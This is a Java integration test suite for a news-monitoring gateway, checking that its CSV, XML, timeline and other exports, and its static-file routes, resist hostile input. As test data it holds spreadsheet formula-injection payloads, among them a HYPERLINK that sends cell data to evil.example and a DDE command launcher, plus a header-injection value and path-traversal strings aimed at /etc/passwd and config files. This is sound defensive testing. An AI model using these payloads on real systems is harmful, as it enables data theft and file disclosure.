package org.watchline.gateway.hostile;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;
import javax.xml.parsers.DocumentBuilder;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.watchline.gateway.GoldenArticle;
import org.watchline.gateway.StoredCorpus;
import org.watchline.gateway.StoredFeeds;
import org.watchline.gateway.StoredFixture;
import org.watchline.gateway.StoredWatchlists;
import org.xml.sax.InputSource;

/** Files that leave the gateway, and are opened by other programs. */
@QuarkusTest
class HostileFilesIT {

    private static final String OUTLET = "=HYPERLINK(\"https://evil.example?\"&A1,\"Gazette\")";
    private static final String FORMULA = "\t=cmd|' /C calc'!A0";
    private static final Pattern CALCULATED = Pattern.compile("(?s)[\\t\\r\\n]|[\\s\\h]*[=+\\-@＝＋－＠]");
    private static final Pattern NUMBER = Pattern.compile("-?[0-9]+(?:\\.[0-9]+)?(?:E-?[0-9]+)?");

    private static final String LIST = "7d5c1f2e-4444-4000-8000-00000000aaaa";

    @BeforeAll
    static void storeFormulas() {
        StoredFixture article = GoldenArticle.fixture()
                .titled("+" + FORMULA)
                .from(OUTLET)
                .at("@SUM(1+1)")
                .published("2022-03-06T00:00:00Z")
                .mentioning("Khost", "GPE", "-khost", "=Khost")
                .mentioning("TTP", "ORG", "@ttp", "-TTP");
        StoredCorpus.store(article);
        String id = article.id().toString();
        StoredCorpus.change("""
                update store.revision set authors = array[?], tags = array[?]
                where article = (select id from store.article where article_id = ?::uuid)""", FORMULA, "-2+3", id);
        String sets = """
                 where annotation_set in (select s.id from store.annotation_set s join store.revision r on r.id = s.revision
                join store.article a on a.id = r.article where a.article_id = ?::uuid)""";
        StoredCorpus.change(
                "update store.citation set source = ?, handle = ?, date = ?" + sets, FORMULA, "@x", "=1", id);
        StoredCorpus.change(
                "update store.event set mode = ?, location = ?, claimed_by = ?, actors = array[?]" + sets,
                "=mode",
                "@ttp",
                "-khost",
                "@ttp",
                id);
        StoredCorpus.change(
                "update store.mention set text = ?, link = jsonb_build_object('reason', ?::text, 'alias', '=4', 'candidates', '[]'::jsonb)"
                        + sets,
                "\r=2",
                "=3",
                id);
        StoredWatchlists.watching(LIST, "talks");
        StoredCorpus.change(
                "update store.watchlist set name = ?, author = ? where id = ?::uuid",
                HostileText.TEXT,
                HostileText.TEXT + "\u0001",
                LIST);
        StoredFeeds.following(
                UUID.randomUUID().toString(),
                "https://hostile.example/?a=1&b=\"<x>",
                HostileText.TEXT + "\u0001\uFFFE");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v1/export?format=csv&rows=articles",
                "/api/v1/export?format=csv&rows=events",
                "/api/v1/export?format=csv&rows=mentions",
                "/api/v1/export?format=csv&rows=citations",
                "/api/v1/events?format=csv&actual=false"
            })
    void noCellOfATableIsCalculated(String address) throws IOException {
        // When
        Response table = address.contains("export")
                ? given().queryParam("source", OUTLET).get(address)
                : given().get(address);

        // Then
        assertThat(table.statusCode()).as(table.asString()).isEqualTo(200);
        try (CSVParser rows = CSVFormat.RFC4180.parse(new StringReader(table.asString()))) {
            List<CSVRecord> records = rows.getRecords();
            assertThat(records).hasSizeGreaterThan(1);
            assertThat(records.stream().flatMap(CSVRecord::stream))
                    .anyMatch(cell -> cell.startsWith("'"))
                    .noneMatch(cell -> CALCULATED.matcher(cell).lookingAt()
                            && !NUMBER.matcher(cell).matches());
        }
    }

    /** Names are made of what is asked for and of the day, never of what somebody wrote. */
    @ParameterizedTest
    @ValueSource(
            strings = {"jsonl", "csv", "geojson", "stix", "conllu", "webannotation", "timelinejs", "bibtex", "ris"})
    void aDownloadHasAPlainNameAndIsNoPage(String format) {
        Response file = given().queryParam("q", "quagga\r\nSet-Cookie: a=b")
                .queryParam("format", format)
                .get("/api/v1/export");

        assertThat(file.header("Content-Disposition"))
                .matches("attachment; filename=\"watchline-[a-z]+-[0-9-]{10}\\.[a-z.]+\"");
        assertThat(file.header("Content-Security-Policy")).contains("sandbox");
        assertThat(file.header("Set-Cookie")).isNull();
        assertThat(file.contentType()).doesNotContain("html");
    }

    @Test
    void theBytesOfADeadLetterAreADownloadWhateverTheyAre() {
        // Given
        StoredCorpus.change("""
                insert into store.dead_letter (id, topic, partition, record_offset, recorded_at, value, header_names,
                  header_values, submission_id, attempt)
                overriding system value
                values (7000000002, 'articles.submitted.dlq', 0, 2, now(), convert_to(?, 'UTF8'), '{}', '{}', 's', 1)""", "<html>" + HostileText.TEXT);

        // When
        Response bytes = given().get("/api/v1/deadletters/7000000002?full=true");

        // Then
        assertThat(bytes.asString()).startsWith("<html>");
        assertThat(bytes.contentType()).isEqualTo("application/octet-stream");
        assertThat(bytes.header("Content-Disposition")).startsWith("attachment");
        assertThat(bytes.header("Content-Security-Policy")).contains("default-src 'none'", "sandbox");
        assertThat(bytes.header("Cache-Control")).contains("no-store");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/feeds/opml", "/api/v1/watchlists/" + LIST + "/feed.atom"})
    void xmlHoldsHostileTextAsText(String address) throws Exception {
        // When
        String xml = given().get(address).asString();

        // Then
        assertThat(xml).contains(HostileText.MARK).doesNotContain("<x-harm", "<script");
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        DocumentBuilder reader = factory.newDocumentBuilder();
        reader.setErrorHandler(null);
        assertThat(reader.parse(new InputSource(new StringReader(xml)))
                        .getElementsByTagName("*")
                        .getLength())
                .isGreaterThan(2);
    }

    @Test
    void theSlidesOfATimelineHoldNoMarkupOfTheCorpus() {
        // Given
        StoredFixture article = GoldenArticle.fixture().titled(HostileText.TEXT).from(HostileText.MARK + " Post");
        StoredCorpus.store(article);

        // When
        String slides = given().queryParam("format", "timelinejs")
                .queryParam("source", HostileText.MARK + " Post")
                .get("/api/v1/export")
                .asString();

        // Then
        assertThat(slides).contains(HostileText.MARK).doesNotContain("<x-harm", "<script", "<img", "<svg", "<iframe");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/console/lib/..%2f..%2f..%2fapplication.properties",
                "/console/lib/../../../application.properties",
                "/console/lib/%2e%2e/%2e%2e/%2e%2e/application.properties",
                "/console/..%5c..%5capplication.properties",
                "/console/0123456789ab/..%2f..%2f..%2fapplication.properties",
                "/console/0123456789ab/%2e%2e/%2e%2e/%2e%2e/templates/base.html",
                "/console/lib/%00",
                "/console/lib//etc/passwd",
                "/console//..//..//..//..//..//etc/passwd",
                "/..%252f..%252fetc/passwd",
                "/META-INF/resources/console/console.css",
                "/templates/base.html"
            })
    void filesOutsideOfTheConsolesFolderAreNotServed(String path) {
        Response answer = given().urlEncodingEnabled(false).get(path);

        assertThat(answer.statusCode()).isIn(400, 404);
        assertThat(answer.asString()).doesNotContain("quarkus.http", "root:", "insert body");
    }
}
